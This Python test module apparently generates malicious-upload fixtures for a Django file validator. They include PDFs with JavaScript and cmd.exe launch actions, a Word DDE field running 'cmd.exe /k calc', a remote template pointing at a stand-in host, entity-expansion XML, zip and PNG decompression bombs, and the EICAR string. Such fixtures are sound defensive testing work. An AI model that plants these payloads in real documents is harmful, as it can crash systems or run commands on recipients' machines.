"""Files that people attach, good and bad, made by code so that no bad file lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(text: str = "Kartläggning av målgruppen", change: Callable[[PdfWriter], object] | None = None) -> bytes:
    """A PDF of one page with a line of text; change: what is done to it before it is written."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    line = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("cp1252")
    stream.set_data(b"BT /F1 12 Tf 72 720 Td (" + line + b") Tj ET")
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
            NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
        }
    )
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    page[NameObject("/Contents")] = writer._add_object(stream)
    if change:
        change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def encrypted_pdf() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("hemligt", algorithm="RC4-128"))


def pdf_with_file() -> bytes:
    return pdf(change=lambda writer: writer.add_attachment("inuti.txt", b"text"))


def pdf_that_acts(kind: str, **facts: str) -> bytes:
    """A PDF with an action of the kind that is taken when it is opened."""

    def act(writer: PdfWriter) -> None:
        named = {NameObject(f"/{key}"): TextStringObject(value) for key, value in facts.items()}
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **named})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return pdf(change=act)


def pdf_with_script() -> bytes:
    return pdf_that_acts("JavaScript", JS="app.alert('hej');")


def pdf_that_launches() -> bytes:
    return pdf_that_acts("Launch", F="cmd.exe")


def truncated_pdf() -> bytes:
    return pdf()[:-200]


def pdf_with_endless_pages() -> bytes:
    """A few hundred bytes whose tree of pages holds itself."""
    body = b"<</Type/Pages/Count 900/Kids[2 0 R 2 0 R]>>"
    first, second = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n", b"2 0 obj" + body + b"endobj\n"
    start = len(b"%PDF-1.7\n")
    table = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (start, start + len(first))
    place = start + len(first) + len(second)
    trailer = b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % place
    return b"%PDF-1.7\n" + first + second + table + trailer


def word(text: str = "Kartläggning av målgruppen") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "Insats", "Jobbspår"
    return _saved(document.save)


def sheet(text: str = "Kartläggning av målgruppen") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = "Målgrupp"
    book.active.append([text, 17])
    return _saved(book.save)


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    target = io.BytesIO()
    save(target)
    return target.getvalue()


def rewritten(archive: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    """An Office file with every part as `change` gives it back, and with more parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in (more or {}).items():
            new.writestr(name, part)
    return target.getvalue()


def with_parts(archive: bytes, **parts: bytes) -> bytes:
    """__ in a name stands for a slash; the name ends in .bin."""
    named = {name.replace("__", "/") + ".bin": part for name, part in parts.items()}
    return rewritten(archive, lambda _name, part: part, named)


def replaced(archive: bytes, where: str, old: bytes, new: bytes) -> bytes:
    return rewritten(archive, lambda name, part: part.replace(old, new) if name == where else part)


def sheet_with_macro() -> bytes:
    return with_parts(sheet(), xl__vbaProject=b"\xd0\xcf\x11\xe0 vba")


def word_with_macro_type() -> bytes:
    plain = b"openxmlformats-officedocument.wordprocessingml.document.main"
    return replaced(word(), "[Content_Types].xml", plain, b"ms-word.document.macroEnabled.main")


def word_with_remote_template() -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = b'<Relationship Id="rId99" Type="%s" Target="https://elak.example/m.dotm" TargetMode="External"/>' % kind
    end = b"</Relationships>"
    return replaced(word(), "word/_rels/document.xml.rels", end, link + end)


def word_with_link() -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    link = b'<Relationship Id="rId99" Type="%s" Target="https://skr.example/" TargetMode="External"/>' % kind
    end = b"</Relationships>"
    return replaced(word(), "word/_rels/document.xml.rels", end, link + end)


def word_with_object() -> bytes:
    return with_parts(word(), word__embeddings__oleObject1=b"\xd0\xcf\x11\xe0 ole")


def word_with_entities() -> bytes:
    bomb = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
    return replaced(word(), "docProps/core.xml", b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", bomb)


def word_with_command() -> bytes:
    field = b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
    return replaced(word(), "word/document.xml", b"<w:body>", b"<w:body>" + field)


def zip_bomb() -> bytes:
    """A Word file of half a megabyte that unpacks to half a gigabyte."""
    target = io.BytesIO()
    target.write(word())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(4):
            archive.writestr(f"word/media/picture{number}.xml", bytes(128 * 1024 * 1024))
    return target.getvalue()


def zip_with_many_parts() -> bytes:
    target = io.BytesIO()
    target.write(word())
    with zipfile.ZipFile(target, "a") as archive:
        for number in range(4000):
            archive.writestr(f"word/media/{number}.xml", b"")
    return target.getvalue()


def plain_zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("brev.txt", b"hej")
    return target.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    return _saved(lambda target: Image.new("RGB", size, "teal").save(target, kind))


def picture_bomb() -> bytes:
    """A PNG of a few bytes that says it is 60,000 by 60,000."""

    def part(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0" * 1000)) + part(b"IEND", b"")


def sent(content: bytes, name: str = "bilaga.pdf", content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type)


def pdf_of_many_pages(pages: int = 10_000) -> bytes:
    """Written by hand, since a library takes seconds for so many."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids)]
    bodies += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * pages
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)
    return bytes(out)
